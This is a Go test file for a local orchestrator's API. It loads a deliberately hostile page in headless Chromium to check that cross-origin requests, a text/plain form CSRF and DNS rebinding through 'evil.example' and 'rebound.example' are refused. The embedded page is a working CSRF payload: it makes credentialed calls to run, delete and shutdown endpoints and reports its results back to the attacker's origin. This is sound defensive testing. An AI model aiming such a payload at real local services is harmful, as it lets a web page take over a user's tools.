package load

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"brig/orchestrator/api"
	"brig/orchestrator/sandbox/sandboxtest"
)

// evil is a page of somebody else's that tries to use a brig of whoever opens it. It
// writes down what it could read and whether the browser let the request go.
const evil = `<!doctype html><pre id=said></pre><form id=f method=post enctype=text/plain target=frame><input name='{"name":"form","x":"' value='"}'></form><iframe name=frame></iframe>
<script>
const brig = "http://%s", said = []
async function attempt(name, path, options) {
  try {
    const answer = await fetch(brig + path, options)
    said.push(name + " " + answer.type + " " + answer.status + " " + (await answer.text()).length)
  } catch (e) { said.push(name + " refused") }
}
async function all() {
  const json = {method: "POST", body: '{"name":"json"}', headers: {"Content-Type": "application/json"}}
  await attempt("read", "/v1/status", {credentials: "include"})
  await attempt("health", "/healthz", {})
  await attempt("opaque", "/v1/status", {mode: "no-cors", credentials: "include"})
  await attempt("json", "/v1/sessions", {...json, credentials: "include"})
  await attempt("text", "/v1/sessions", {method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"text"}'})
  await attempt("run", "/v1/run", {method: "POST", mode: "no-cors", credentials: "include", body: '{"code":"1"}'})
  await attempt("mcp", "/mcp", {method: "POST", mode: "no-cors", credentials: "include", body: "{}"})
  await attempt("delete", "/v1/sessions/s", {method: "DELETE", credentials: "include"})
  await attempt("shutdown", "/v1/shutdown", {method: "POST", mode: "no-cors", credentials: "include"})
  said.push("socket " + await new Promise(done => { const w = new WebSocket(brig.replace("http", "ws") + "/v1/events"); w.onopen = () => done("open"); w.onerror = () => done("refused") }))
  said.push("events " + await new Promise(done => { const e = new EventSource(brig + "/v1/events", {withCredentials: true}); e.onopen = () => done("open"); e.onerror = () => done("refused") }))
  f.action = brig + "/v1/sessions"; f.submit()
  await new Promise(done => setTimeout(done, 1500))
  await fetch("/said", {method: "POST", body: said.join("\n")})
}
all()
</script>`

// TestBrowser: a page of another site in a real browser, in which the operator's own
// page is open, reads nothing of brig and changes nothing; and neither does a name that
// was made to point at this machine.
func TestBrowser(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		if !long() {
			t.Log("the full check has a browser")
			return
		}
		sandboxtest.Skip(t, "chromium on PATH", "none")
	}
	b, c, ctx := surface(t)
	address, _ := b.endpoint(t)
	_, port, err := net.SplitHostPort(address)
	if err != nil {
		t.Fatal(err)
	}
	profile := t.TempDir()
	browser := func(ctx context.Context, flags ...string) *exec.Cmd {
		cmd := exec.CommandContext(ctx, chromium, append([]string{
			"--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage",
			"--user-data-dir=" + profile, "--host-resolver-rules=MAP *.example 127.0.0.1",
		}, flags...)...)
		cmd.Env = append(cmd.Environ(), "HOME="+profile)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) } // its helpers too
		return cmd
	}
	open := func(at string) string {
		limited, cancel := context.WithTimeout(ctx, 2*time.Minute)
		defer cancel()
		out, err := browser(limited, "--dump-dom", at).Output()
		if err != nil {
			t.Fatalf("the browser: %v", err)
		}
		return string(out)
	}
	login, err := c.PageLogin(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if got := open(login.URL); !strings.Contains(got, `"layers"`) {
		t.Fatalf("the operator's own page: %.500s", got)
	}
	// Whoever holds the cookie is the operator, so what follows is refused for where it comes from.
	if got := open("http://" + address + "/v1/status"); !strings.Contains(got, `"layers"`) {
		t.Fatalf("the operator's own page, once more: %.500s", got)
	}
	heard := make(chan string, 4)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/said" {
			text := make([]byte, 4096)
			n, _ := r.Body.Read(text)
			heard <- string(text[:n])
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, evil, r.URL.Query().Get("brig"))
	}))
	defer site.Close()
	_, sitePort, err := net.SplitHostPort(site.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	for _, from := range []string{"127.0.0.1", "localhost", "evil.example"} {
		for _, to := range []string{address, "localhost:" + port, "rebound.example:" + port} {
			limited, cancel := context.WithCancel(ctx)
			cmd := browser(limited, "--remote-debugging-port=0", "http://"+from+":"+sitePort+"/?brig="+to)
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			select {
			case said := <-heard:
				if strings.Count(said, "\n") < 9 {
					t.Errorf("a page of %s about %s said only %q", from, to, said)
				}
				for line := range strings.Lines(said) {
					fields := strings.Fields(line)
					if len(fields) == 2 && fields[1] == "refused" || len(fields) == 4 && fields[1] == "opaque" && fields[3] == "0" {
						continue
					}
					t.Errorf("a page of %s about %s: %s", from, to, line)
				}
			case <-time.After(time.Minute):
				t.Errorf("the page of %s said nothing", from)
			}
			cancel()
			_ = cmd.Wait()
		}
	}
	if got := open("http://rebound.example:" + port + "/v1/status"); strings.Contains(got, `"layers"`) || !strings.Contains(got, "misdirected") {
		t.Errorf("under another name: %.500s", got)
	}
	list, err := c.Sessions(ctx, api.Page{})
	if err != nil || len(list.Sessions) != 1 || list.Sessions[0].Name != "s" {
		t.Errorf("afterwards: %+v %v", list, err)
	}
	runs, err := c.Runs(ctx, "s", api.Page{})
	if err != nil || len(runs.Runs) != 0 {
		t.Errorf("runs: %+v %v", runs, err)
	}
}
